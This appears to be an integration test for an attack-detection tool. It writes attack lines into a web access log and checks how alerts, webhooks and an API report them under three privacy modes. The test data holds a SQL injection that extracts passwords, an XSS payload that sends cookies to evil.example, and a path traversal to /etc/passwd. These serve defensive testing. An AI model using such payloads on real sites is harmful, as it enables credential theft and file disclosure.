import { execFile } from 'node:child_process';
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { promisify } from 'node:util';

import { Alert, ALERT_TYPES, encodeJson, TOPICS, type AlertHeaders } from '@plimsoll/contracts';
import { applyTopics, KafkaLog } from '@plimsoll/kafka-log';
import { testServers } from '@plimsoll/streaming/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { ROOT } from './root.js';
import { startLocalRedis, type LocalRedis } from './servers/index.js';
import { ServiceProcess } from './services/service-process.js';

const servers = testServers();
const run = randomUUID().slice(0, 8);
const token = `plimsoll_${randomBytes(32).toString('base64url')}`;
const WAIT = { timeout: 60_000, interval: 200 };
const MODES = ['strict', 'balanced', 'full'] as const;
type Mode = (typeof MODES)[number];

/** Each is made from an address, with an agent and under an account of its own. */
const ATTACKS = [
  { path: 'sqli', page: '/item', parameter: 'id', value: '1 UNION SELECT name, password FROM users--' },
  { path: 'xss', page: '/search', parameter: 'q', value: '<script>fetch("//evil.example/"+document.cookie)</script>' },
  { path: 'path-traversal', page: '/file', parameter: 'name', value: '../../../../etc/passwd' },
].map((attack, i) => ({
  ...attack,
  address: `203.0.113.${i + 1}`,
  agent: `probe-${i + 1}/1.0`,
  account: `mallory${i + 1}`,
}));
type Attack = (typeof ATTACKS)[number];

interface Asked {
  readonly page: string;
  readonly parameter: string;
  readonly value: string;
  readonly address: string;
  readonly agent: string;
  readonly account: string;
}

/** A line of the combined format, `second` seconds after midnight. */
function lineOf({ page, parameter, value, address, agent, account }: Asked, second: number): string {
  const clock = new Date(second * 1_000).toISOString().slice(11, 19);
  const target = `${page}?${parameter}=${encodeURIComponent(value)}`;
  return `${address} - ${account} [23/Nov/2026:${clock} +0000] "GET ${target} HTTP/1.1" 200 512 "-" "${agent}"\n`;
}

function ordinary(): string {
  const words = ['tea', 'cake', 'soup', 'pie'];
  return Array.from({ length: 600 }, (_, i) => {
    const asked = [
      { page: '/item', parameter: 'id', value: String(i % 40) },
      { page: '/search', parameter: 'q', value: words[i % 4]! },
      { page: '/file', parameter: 'name', value: i % 2 === 0 ? 'menu.txt' : 'hours.txt' },
    ][i % 3]!;
    return lineOf({ ...asked, address: `192.0.2.${i % 20}`, agent: 'Mozilla/5.0', account: '-' }, i * 20);
  }).join('');
}

async function plimsoll(...args: string[]): Promise<string> {
  const { stdout } = await promisify(execFile)(process.execPath, [join(ROOT, 'apps/cli/bin/plimsoll.js'), ...args], {
    maxBuffer: 67_108_864,
  });
  return stdout;
}

interface AlertLine {
  readonly type: 'alert' | 'verdict';
  readonly key: string;
  readonly headers: AlertHeaders;
  readonly finding: Alert;
}

/** What one mode's run says of the attacks: to people, and on `alerts`. */
interface Told {
  readonly table: string;
  readonly lines: readonly AlertLine[];
}

describe.skipIf(servers === undefined)('the page and the client of an attack', () => {
  const received = new Map<string, string[]>();
  const told = new Map<Mode, Told>();
  let folder: string;
  let redis: LocalRedis;
  let receiver: Server;
  let service: ServiceProcess;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'page-and-client-'));
    const [benign, attacked] = ['benign.log', 'attacked.log'].map((name) => join(folder, name));
    await writeFile(benign!, ordinary());
    await writeFile(attacked!, ATTACKS.map((attack, i) => lineOf(attack, 40_000 + i * 1_000)).join(''));
    for (const mode of MODES) {
      const application = `${mode}-${run}`;
      const profiles = join(folder, mode);
      const privacy = ['--application', application, '--privacy', mode];
      await plimsoll('learn', ...privacy, '--source', `web=access-log:${benign!}`, '--out', profiles);
      const detect = ['detect', ...privacy, '--profile', profiles, '--source', `web=access-log:${attacked!}`];
      const [table, ndjson] = await Promise.all([plimsoll(...detect), plimsoll(...detect, '--output', 'ndjson')]);
      const lines = ndjson
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as AlertLine);
      told.set(mode, { table, lines: lines.filter(({ type }) => type === 'alert') });
    }

    receiver = createServer((request, response) => {
      let body = '';
      request.setEncoding('utf8').on('data', (text: string) => (body += text));
      request.on('end', () => {
        const to = request.url!.slice(1);
        received.set(to, [...(received.get(to) ?? []), body]);
        response.end();
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    const { port } = receiver.address() as AddressInfo;
    const webhooks = ['cloudevents', 'falco'].map((format) => {
      return { name: format, format, url: `http://127.0.0.1:${port}/${format}`, activities: ['create'] };
    });
    const kafka = { brokers: servers!.kafkaBrokers.split(',') };
    await applyTopics(kafka, Object.values(TOPICS));
    redis = await startLocalRedis();
    const sha256 = createHash('sha256').update(token).digest('hex');
    service = await ServiceProcess.start('alert-service', {
      KAFKA_BROKERS: servers!.kafkaBrokers,
      REDIS_URL: redis.url,
      PLIMSOLL_WEBHOOKS: JSON.stringify({ webhooks }),
      PLIMSOLL_API_TOKENS: JSON.stringify({ tokens: [{ name: 'ann', role: 'viewer', sha256 }] }),
    });
    await service.readiness(200);
    const log = new KafkaLog(kafka);
    const records = [...told.values()].flatMap(({ lines }) => lines);
    await log.publish(
      records.map(({ key, headers, finding }) => {
        return { topic: TOPICS.alerts.name, key, value: encodeJson(finding), headers: { ...headers } };
      }),
    );
    await log.close();
  }, 240_000);
  afterAll(async () => {
    await service.stop();
    receiver.close();
    await redis.close();
    await rm(folder, { recursive: true });
  });

  const createdIn = (mode: Mode, { path }: Attack): AlertLine => {
    const created = told.get(mode)!.lines.find(({ headers, finding }) => {
      return headers.ce_type === ALERT_TYPES.create && finding.unmapped.path === path;
    });
    if (created === undefined) throw new Error(`${mode}: no incident by ${path}`);
    return created;
  };
  const webhookOf = async (format: string, incident: string): Promise<string> => {
    const own = (): string | undefined => received.get(format)?.find((body) => body.includes(incident));
    await expect.poll(own, WAIT).toBeDefined();
    return own()!;
  };

  /** Where the page and the client have to stand, as text. */
  const OUTPUTS: Readonly<Record<string, (mode: Mode, attack: Attack) => string | Promise<string>>> = {
    title: (mode, attack) => Alert.parse(createdIn(mode, attack).finding).message,
    table: (mode, attack) => {
      const { key } = createdIn(mode, attack);
      return told
        .get(mode)!
        .table.split('\n\n')
        .find((one) => one.includes(key))!;
    },
    evidence: (mode, attack) => JSON.stringify(createdIn(mode, attack).finding.evidences),
    'webhook, CloudEvents': (mode, attack) => webhookOf('cloudevents', createdIn(mode, attack).key),
    'webhook, Falco': (mode, attack) => webhookOf('falco', createdIn(mode, attack).key),
    'HTTP interface': async (mode, attack) => {
      const at = `/api/v1/incidents/${createdIn(mode, attack).key}`;
      await expect.poll(async () => (await service.get(at, token)).status, WAIT).toBe(200);
      return JSON.stringify((JSON.parse((await service.get(at, token)).body) as { request: unknown }).request);
    },
  };

  it.each(MODES)(
    'are named in every output, in %s as far as it lets them out',
    async (mode) => {
      for (const [output, textOf] of Object.entries(OUTPUTS)) {
        for (const attack of ATTACKS) {
          const text = await textOf(mode, attack);
          const { page, parameter, address, agent, account } = attack;
          // A title is one line for a person; who that was in full stands beside it.
          const client = output === 'title' ? [address] : [address, agent, account];
          const words = ['GET', page, parameter, ...(mode === 'strict' ? [] : client)];
          for (const word of words) expect(text, `${output} of ${attack.path}`).toContain(word);
          if (mode !== 'strict') continue;
          for (const word of [address, agent, account]) expect(text, `${output} of ${attack.path}`).not.toContain(word);
        }
      }
    },
    120_000,
  );

  it.each(MODES)('stand in %s where OCSF has them', (mode) => {
    for (const attack of ATTACKS) {
      const { page, parameter, address, agent, account } = attack;
      const [evidence] = createdIn(mode, attack).finding.evidences;
      const known = mode !== 'strict';
      expect(evidence!.http_request).toEqual({
        http_method: 'GET',
        url: { path: page },
        args: parameter,
        ...(known && { user_agent: agent }),
      });
      expect(evidence!.src_endpoint).toEqual(known ? { ip: address } : undefined);
      expect(evidence!.actor).toEqual({
        ...(known && { user: { name: account } }),
        session: { uid: expect.stringMatching(/^[0-9a-f]{16}$/) as string },
      });
    }
  });
});
